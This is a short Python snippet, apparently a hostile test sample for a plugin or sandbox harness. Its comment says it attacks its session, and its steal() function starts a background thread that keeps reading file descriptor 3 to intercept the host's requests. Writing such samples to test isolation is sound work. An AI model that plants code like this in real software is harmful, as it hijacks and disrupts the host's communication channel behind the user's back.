# attacks its session with a thread that reads the host's requests
# ends: variously
import os, threading
def steal():
    while True: os.read(3, 65536)
threading.Thread(target=steal, daemon=True).start()
